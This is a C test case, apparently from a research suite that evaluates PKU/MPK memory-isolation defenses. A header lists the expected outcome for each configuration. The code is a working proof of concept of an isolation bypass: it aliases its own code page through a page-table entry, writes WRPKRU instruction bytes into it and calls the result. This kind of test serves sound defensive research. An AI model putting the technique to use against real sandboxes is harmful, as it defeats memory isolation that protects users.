/*
{
  "title": "WRPKRU written to own code by a second, writable mapping of it that the extension makes in a write window",
  "precondition": "CR4.PKE = 1",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (mutable backings)",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I5", "event": "guardedAccess"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "processor.h"

static __attribute__((noinline)) void room(void) { __asm__ volatile("nop\n nop\n nop\n nop"); }

// Two pages of own data: the second mapping takes the place of one of them.
static uint8_t window[2 * PAGE];

static void write_code(void) {
  static const uint8_t bytes[] = {0x0f, 0x01, 0xef, 0xc3};
  volatile uint8_t *const page = (volatile uint8_t *)(((uint64_t)window + PAGE - 1) & ~(uint64_t)(PAGE - 1));
  *page = 0;
  volatile uint64_t *const entry = leaf(page);
  const uint64_t alias = (*entry & ~ADDRESS_MASK) | (*leaf((void *)room) & ADDRESS_MASK);
  USHELL_SET(*entry, alias);
  invalidate(page);
  for (unsigned at = 0; at < sizeof bytes; at++) page[((uint64_t)room & (PAGE - 1)) + at] = bytes[at];
  __asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(room) : "memory");
}

int main(void) {
  BYPASS_OF_KEYS(write_code());
  GOAL_COUNT();
  return 0;
}
